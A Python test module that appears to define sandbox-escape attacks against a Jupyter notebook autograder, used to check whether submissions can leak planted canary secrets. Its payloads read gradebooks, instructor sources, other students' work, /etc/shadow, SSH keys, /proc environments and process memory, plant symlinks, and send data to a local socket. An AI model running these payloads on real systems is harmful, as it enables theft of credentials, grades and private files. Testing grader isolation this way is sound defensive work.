"""Showing what no student may see: the gradebook, the sources, others' work, files and settings of
the machine."""

from attacks.attack import attack

SHOW = """
import os
import pathlib
import re

here = pathlib.Path.cwd().resolve()
KEPT = re.compile(rb"(?:kept|written)-[a-z-]+-[0-9a-f]{4}")

def show(path):
    try:
        data = pathlib.Path(path).read_bytes()[:20_000_000]
    except OSError as problem:
        print(type(problem).__name__)
        return
    for found in KEPT.findall(data):
        print(path, found.decode())
"""

ATTACKS = (
    attack("leak_gradebook", "Prints what stands in the gradebook.", first=SHOW + """
for above in here.parents:
    show(above / "gradebook.db")
"""),
    attack("leak_sources", "Prints the instructor's notebooks.", first=SHOW + """
for above in here.parents:
    for path in (*above.glob("source/*/*.ipynb"), *above.glob("release/*/*.ipynb")):
        show(path)
"""),
    attack("leak_other_submissions", "Prints what others have handed in, and what they got.", first=SHOW + """
for above in here.parents:
    for path in (*above.glob("submitted/*/*/*"), *above.glob("autograded/*/*/*"), *above.glob("feedback/*/*/*")):
        if here not in path.parents and "leak_other" not in str(path):
            show(path)
"""),
    attack("leak_files_outside", "Prints files of the machine: passwords, keys, the home folder, the class folder.", first=SHOW + """
home = pathlib.Path(os.environ.get("HOME", "/nowhere"))
for path in ("/etc/shadow", "/etc/hostname", "/proc/1/environ", home / ".netrc", home / ".ssh/id_rsa", home / "secret.txt"):
    show(path)
for above in here.parents:
    show(above / "secret.txt")
    show(above / "nbgrader_config.py")
    show(above / "home" / "secret.txt")
"""),
    attack("leak_environment", "Prints the environment, its own and that of every process it can see.", first=SHOW + """
print(dict(os.environ))
for path in pathlib.Path("/proc").glob("[0-9]*/environ"):
    show(path)
for path in pathlib.Path("/proc").glob("[0-9]*/cmdline"):
    show(path)
"""),
    attack("leak_shell", "Does the same with shell commands.", first="""
!env
!cat ../../../gradebook.db ../../../secret.txt ../../../source/*/*.ipynb ../../../submitted/ada/*/*.ipynb ~/secret.txt 2>/dev/null | strings
!find / -xdev -name secret.txt -exec cat {} + 2>/dev/null
%sx env
"""),
    attack("leak_open_files", "Reads through files that the kernel or its parents hold open, and other roots.", first=SHOW + """
for process in pathlib.Path("/proc").glob("[0-9]*"):
    for path in (*process.glob("fd/*"), process / "root" / "secret.txt", process / "cwd" / "secret.txt", process / "cwd" / "gradebook.db"):
        try:
            if path.is_file():
                show(path)
        except OSError:
            continue
""", lock=True),
    attack("leak_memory", "Reads the memory of the processes that started it.", first=SHOW + """
for process in pathlib.Path("/proc").glob("[0-9]*"):
    try:
        if int(process.name) == os.getpid():
            continue
        with open(process / "maps") as maps, open(process / "mem", "rb", 0) as memory:
            for line in list(maps)[:2000]:
                start, end = (int(n, 16) for n in line.split()[0].split("-"))
                if "rw-p" in line and end - start < 50_000_000:
                    memory.seek(start)
                    for found in KEPT.findall(memory.read(end - start)):
                        print(found.decode())
    except (OSError, ValueError, OverflowError):
        continue
""", lock=True),
    attack("leak_links", "Lays links to files outside beside the notebook, and prints them.",
           first=SHOW + 'for path in here.iterdir():\n    show(path)',
           plant=lambda folder: [(folder / name).symlink_to(target) for name, target in
                                 (("g.db", "../../../gradebook.db"), ("secret.txt", "../../../secret.txt"), ("s", "../../../source"),
                                  ("data.csv", folder.parents[2] / "secret.txt"))] and None),
    attack("leak_tests_in_errors", "Raises an error with the text of the test cell in it, for the feedback page.", cells={"divergence": """
        def divergence(y, d):
            raise ValueError(repr(get_ipython().user_ns["_ih"][-1])[:100_000])
        """}),
    attack("leak_by_network", "Sends what it finds over the network, and asks for answers there.", first="""
import socket
for family, address in ((socket.AF_INET, ("127.0.0.1", {port})), (socket.AF_UNIX, "\\0backprop-attack-{port}"),
                        (socket.AF_INET6, ("::1", {port}))):
    try:
        with socket.socket(family, socket.SOCK_STREAM) as line:
            line.settimeout(1)
            line.connect(address)
            line.sendall(b"backprop-attack")
    except OSError as problem:
        print(type(problem).__name__)
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.sendto(b"backprop-attack", ("127.0.0.1", {port}))
except OSError as problem:
    print(type(problem).__name__)
"""),
    attack("leak_by_another_kernel", "Talks to the kernels of submissions that are graded at the same time.", first="""
import glob, json, os, pathlib, tempfile
for folder in (os.environ.get("JUPYTER_RUNTIME_DIR", ""), tempfile.gettempdir(), os.path.expanduser("~/.local/share/jupyter/runtime")):
    for path in glob.glob(os.path.join(folder or ".", "**", "*kernel*.json"), recursive=True):
        if str(os.getpid()) not in path:
            print(pathlib.Path(path).read_text())
"""),
)  # fmt: skip
